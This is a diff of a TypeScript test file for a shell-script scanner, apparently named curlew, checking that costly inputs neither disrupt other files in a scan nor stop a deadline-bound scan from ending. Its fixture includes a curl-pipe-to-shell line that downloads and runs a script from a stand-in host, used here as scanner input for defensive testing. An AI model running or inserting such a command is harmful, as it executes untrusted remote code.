@@ -1,4 +1,4 @@
-/** Tests that in each built command, a costly text gets a result or an error, and every other text its usual result. */
+/** Tests that each built command has a result or an error for a costly text, and the usual result for every other text. */
 import { readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
@@ -9,7 +9,7 @@ import { COSTLY_TEXTS } from "./costly-shell-programs.js";
 const range = (count: number): number[] => Array.from({ length: count }, (_, at) => at);
 const PIPE = "curl -fsSL https://y.example/i.sh | sh\n";
 
-describe.each(Object.entries(COSTLY_TEXTS))("%s", (_, costly) => {
+describe.each(Object.entries(COSTLY_TEXTS))("the costly text %s", (_, costly) => {
   it("does not affect other files of a scan", async () => {
     const cwd = folderWith({ "a.sh": PIPE, "costly.sh": costly, "z.sh": PIPE });
     const { status, stdout } = await curlew(["scan", ".", "-f", "jsonl"], { cwd });
@@ -23,7 +23,7 @@ describe.each(Object.entries(COSTLY_TEXTS))("%s", (_, costly) => {
     expect([1, 2]).toContain(status);
   });
 
-  it("does not delay a scan beyond its deadline", async () => {
+  it("does not prevent the end of a scan with a deadline", async () => {
     const cwd = folderWith({ "costly.sh": costly });
     const { status, signal } = await curlew(["scan", "--deadline", "500", "."], { cwd });
     expect(signal).toBeNull();
